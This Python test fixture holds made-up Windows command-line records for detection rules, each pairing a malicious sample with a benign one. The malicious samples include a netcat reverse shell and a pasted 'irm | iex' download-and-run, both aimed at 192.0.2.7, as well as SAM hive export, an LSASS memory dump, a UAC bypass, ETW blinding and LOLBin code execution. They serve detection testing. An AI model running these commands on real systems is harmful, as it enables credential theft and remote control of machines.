"""Made-up records for the shipped rules about programs and their command lines."""

from tests.rules.shipped_samples import Sample
from tests.rules.windows_records import command

SAMPLES = (
    Sample(
        "Several Scouting Commands in One Line",
        command("cmd /c whoami /all & ipconfig /all & net user"),
        command("cmd /c ipconfig /flushdns & ipconfig /renew"),
    ),
    Sample(
        "What Scouting Commands Say Kept in a Writable Folder",
        command("cmd /c systeminfo >> %TEMP%\\s.txt"),
        command("cmd /c ipconfig /all > D:\\support\\net.txt"),
    ),
    Sample(
        "Scouting Command Started by an Odd Program",
        command("whoami /groups", parent="C:\\Windows\\System32\\rundll32.exe"),
        command("ipconfig /all", parent="C:\\Program Files\\Vendor\\vpn.exe"),
    ),
    Sample(
        "Tool That Maps a Domain Run",
        command("C:\\Temp\\sh.exe --CollectionMethods All --ZipFileName a.zip"),
        command("robocopy D:\\a E:\\a /e"),
    ),
    Sample(
        "Network Scanned by a Tool or a Loop",
        command("C:\\Temp\\netscan.exe /hide /auto:a.xml"),
        command("ping 10.0.0.254"),
    ),
    Sample(
        "Tool That Looks for Ways to More Rights",
        command("C:\\Temp\\s.exe -group=all -outputfile=a.txt"),
        command("C:\\tools\\app.exe -group users"),
    ),
    Sample(
        "Weak Service, Installer Right or Protection Looked For",
        command('wmic service get name,pathname,startmode | findstr /i /v "C:\\Windows\\\\"'),
        command("wmic service get name,state"),
    ),
    Sample(
        "Machine Asked Whether It Is Real",
        command("cmd /c tasklist | findstr /i VBoxService"),
        command("wmic computersystem get model"),
    ),
    Sample(
        "Own Public Address or Place Asked For by a Command",
        command("curl.exe -s https://ipinfo.io/json"),
        command("curl.exe -s https://example.org/health"),
    ),
    Sample(
        "Disk Searched for Keys, Passwords or Papers",
        command("cmd /c dir C:\\*.kdbx /s /b"),
        command("cmd /c dir D:\\logs\\*.log /s /b"),
    ),
    Sample(
        "Shadow Copy Made or Reached by a Command",
        command("vssadmin.exe create shadow /for=C:"),
        command("vssadmin.exe list shadows"),
    ),
    Sample(
        "Password Hive Read or Copied by a Command",
        command("reg export HKLM\\sam C:\\a.reg /y"),
        command("reg export HKLM\\Software\\Vendor C:\\a.reg /y"),
    ),
    Sample(
        "Memory Dump Asked of comsvcs by Number or of Any Process",
        command("rundll32.exe C:\\windows\\temp\\c.dat, #24 612 C:\\a.bin full"),
        command('tasklist /fi "imagename eq outlook.exe"'),
    ),
    Sample(
        "Browser Started to Be Driven or Read by Another",
        command(
            '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --headless --dump-dom http://192.0.2.7/a',
            image="C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
            parent="C:\\Windows\\System32\\cmd.exe",
        ),
        command(
            '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --profile-directory=Default',
            image="C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
        ),
    ),
    Sample(
        "Someone Else's Logon Stored or Used by a Command",
        command("cmdkey /generic:TERMSRV/10.0.0.5 /user:corp\\admin /pass:a"),
        command("runas /user:corp\\admin mmc"),
    ),
    Sample(
        "Rights in the Directory Changed or Forged by a Tool",
        command("C:\\Temp\\w.exe whisker.exe add /target:dc1$"),
        command("C:\\Temp\\a.exe whisker add"),
    ),
    Sample(
        "Tool That Forces or Catches Logons of Others",
        command("rpcping -s 10.0.0.5 -e 9997 -a privacy -u NTLM"),
        command("rpcping -s dc1"),
    ),
    Sample(
        "Rights Raised Past the Question by a Command",
        command("schtasks /run /tn \\Microsoft\\Windows\\DiskCleanup\\SilentCleanup /I"),
        command("wusa.exe C:\\Temp\\kb.msu /quiet"),
    ),
    Sample(
        "Variable Set That Loads a Library or Blinds .NET",
        command("cmd /c set COMPlus_ETWEnabled=0 & a.exe"),
        command("cmd /c set DOTNET_CLI_TELEMETRY_OPTOUT=1"),
    ),
    Sample(
        "Link to Diagnosis, Search or Installer Abused",
        command('msdt.exe ms-msdt:/id PCWDiagnostic /param "IT_BrowseForFile=/../../$(calc)"'),
        command("msdt.exe -id NetworkDiagnosticsWeb"),
    ),
    Sample(
        "Rundll32 Calls a Function That Starts Something Else",
        command("rundll32.exe dfshim.dll,ShOpenVerbApplication http://192.0.2.7/a.application"),
        command("rundll32.exe setupapi,InstallHinfSection DefaultInstall 132 C:\\Windows\\inf\\a.inf"),
    ),
    Sample(
        "Signed Program Made to Run Other Code",
        command("wuauclt.exe /UpdateDeploymentProvider C:\\Temp\\a.dll /RunHandlerComServer"),
        command("wuauclt.exe /detectnow"),
    ),
    Sample(
        "Script That Comes with Windows Made to Run Other Code",
        command(
            "cscript.exe C:\\Windows\\System32\\Printing_Admin_Scripts\\en-US\\pubprn.vbs 127.0.0.1 script:https://192.0.2.7/a.sct"
        ),
        command("cscript.exe C:\\Windows\\System32\\Printing_Admin_Scripts\\en-US\\prnmngr.vbs -l"),
    ),
    Sample(
        "Download by a Tool Not Made for It or to a Writable Folder",
        command("certreq -Post -config http://192.0.2.7/a C:\\a.txt b"),
        command("curl.exe -o list.csv https://example.org/list.csv"),
    ),
    Sample(
        "Program of Windows Copied Elsewhere to Load a Library",
        command("C:\\ProgramData\\x\\rekeywiz.exe"),
        command("C:\\Windows\\System32\\calc.exe"),
    ),
    Sample(
        "Core Process of Windows with a Wrong Parent",
        command("C:\\Windows\\System32\\lsass.exe", parent="C:\\Users\\ann\\a.exe"),
        command("C:\\Windows\\System32\\lsass.exe", parent="C:\\Windows\\System32\\wininit.exe"),
    ),
    Sample(
        "Harmless Program Starts a Shell",
        command("cmd /c whoami", parent="C:\\Windows\\System32\\notepad.exe"),
        command("cmd /c whoami", parent="C:\\Windows\\explorer.exe"),
    ),
    Sample(
        "Rundll32 Starts a Shell",
        command(
            "powershell -c whoami",
            parent="C:\\Windows\\System32\\rundll32.exe",
            ParentCommandLine="rundll32 C:\\a.dll,x",
        ),
        command(
            "cmd /c a.bat",
            parent="C:\\Windows\\System32\\rundll32.exe",
            ParentCommandLine="rundll32 MSI1.tmp,zzzzInvokeManagedCustomActionOutOfProc",
        ),
    ),
    Sample(
        "Tool of .NET or Windows Started Without Orders by Another Program",
        command(
            "C:\\Windows\\Microsoft.NET\\Framework\\v4.0.30319\\RegAsm.exe",
            parent="C:\\Users\\ann\\AppData\\Roaming\\a.exe",
        ),
        command(
            "C:\\Windows\\System32\\dllhost.exe /Processid:{3E5FC7F9}",
            parent="C:\\Users\\ann\\AppData\\Local\\Temp\\a.exe",
        ),
    ),
    Sample(
        "Script Host Starts PowerShell or a Tool That Loads Code",
        command(
            "powershell -c whoami",
            parent="C:\\Windows\\System32\\wscript.exe",
            ParentCommandLine="wscript.exe C:\\a.js",
        ),
        command(
            "powershell -File a.ps1",
            parent="C:\\Windows\\System32\\cscript.exe",
            ParentCommandLine="cscript.exe \\\\corp\\sysvol\\corp\\scripts\\a.vbs",
        ),
    ),
    Sample(
        "Compiler Started by a Program for Documents or Scripts",
        command(
            "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe /noconfig @a.cmdline",
            parent="C:\\Windows\\System32\\wscript.exe",
        ),
        command(
            "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe /noconfig @a.cmdline",
            parent="C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        ),
    ),
    Sample(
        "Command Pasted by a User Who Was Lied To",
        command('powershell -w h -c "irm 192.0.2.7/a | iex" # I am not a robot'),
        command("powershell -NoExit -Command Get-Service"),
    ),
    Sample(
        "Script or Screen Saver Opened from Inside an Archive",
        command("cmd /c C:\\Users\\ann\\AppData\\Local\\Temp\\Temp1_invoice.zip\\invoice.bat"),
        command("C:\\tools\\view.exe C:\\Users\\ann\\AppData\\Local\\Temp\\Temp1_a.zip\\a.docx"),
    ),
    Sample(
        "Browser, Reader or Java Server Starts an Interpreter",
        command("powershell -c whoami", parent="C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"),
        command("cmd /c dir", parent="C:\\jdk\\bin\\java.exe", ParentCommandLine="java -jar gradle.jar"),
    ),
    Sample(
        "Command Run Through a Database Server",
        command("sqlcmd -S srv1 -Q \"exec xp_cmdshell 'whoami'\""),
        command('sqlcmd -S srv1 -Q "select 1"'),
    ),
    Sample(
        "Tool for Remote Control Set Up Without a Window",
        command("C:\\ProgramData\\AnyDesk.exe --install C:\\ProgramData\\AnyDesk --start-with-win --silent"),
        command('"C:\\Program Files\\AnyDesk\\AnyDesk.exe" --control', image="C:\\Program Files\\AnyDesk\\AnyDesk.exe"),
    ),
    Sample(
        "Tool for Remote Control Run from a Hidden Folder",
        command("C:\\Users\\ann\\AppData\\Roaming\\Support\\client32.exe"),
        command("C:\\Users\\ann\\Downloads\\AnyDesk.exe"),
    ),
    Sample(
        "Way Home Opened Through a Developers' Tunnel or Private Network",
        command("C:\\Temp\\code.exe tunnel --accept-server-license-terms --name a"),
        command(
            '"C:\\Program Files\\Microsoft VS Code\\Code.exe" --type=renderer',
            image="C:\\Program Files\\Microsoft VS Code\\Code.exe",
        ),
    ),
    Sample(
        "Shell Given to the Network",
        command("C:\\Temp\\nc.exe 192.0.2.7 443 -e cmd.exe"),
        command("C:\\tools\\nc.exe -zv 10.0.0.5 443"),
    ),
    Sample(
        "Command Line as a Kit for Remote Control Writes It",
        command("cmd.exe /c echo abcdef > \\\\.\\pipe\\abcdef"),
        command("cmd.exe /c echo done > C:\\a.txt"),
    ),
    Sample(
        "Known Code in Base64 on a Command Line",
        command("powershell -enc JABzAD0ATgBlAHcALQBPAGIAagBl"),
        command("C:\\tools\\a.exe --token ZXhhbXBsZQ=="),
    ),
    Sample(
        "Command Shell Line Bent to Hide What It Runs",
        command('cmd /V:ON /c "set a=whoami&& !a!"'),
        command("cmd /c type a.txt | findstr error"),
    ),
    Sample(
        "Script Written Line by Line by a Command",
        command('cmd /c echo Set s=CreateObject("WScript.Shell") >> C:\\a.vbs'),
        command("cmd /c echo done >> C:\\a.txt"),
    ),
    Sample(
        "Root Certificate Added or Private Key Taken by a Command",
        command("certutil.exe -addstore -f root C:\\a.cer"),
        command("certutil.exe -viewstore root"),
    ),
)
